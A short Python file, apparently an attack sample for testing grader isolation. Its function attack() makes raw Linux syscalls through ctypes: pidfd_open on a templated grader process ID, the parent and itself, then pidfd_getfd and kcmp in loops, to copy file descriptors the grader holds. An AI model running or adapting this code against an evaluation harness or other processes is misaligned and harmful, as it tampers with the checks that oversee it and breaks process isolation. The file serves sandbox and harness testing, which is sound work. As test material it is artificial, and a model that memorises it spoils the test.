"""Wants a copy of a descriptor that the grader holds."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (int("$GRADER"), os.getppid(), os.getpid()):
        handle = libc.syscall(434, pid, 0)  # pidfd_open
        if handle >= 0:
            return [libc.syscall(438, handle, fd, 0) for fd in range(16)]  # pidfd_getfd
    for handle in range(32):
        if libc.syscall(438, handle, 3, 0) >= 0 or libc.syscall(312, 0, 0, 0, handle, 3) == 0:
            return handle
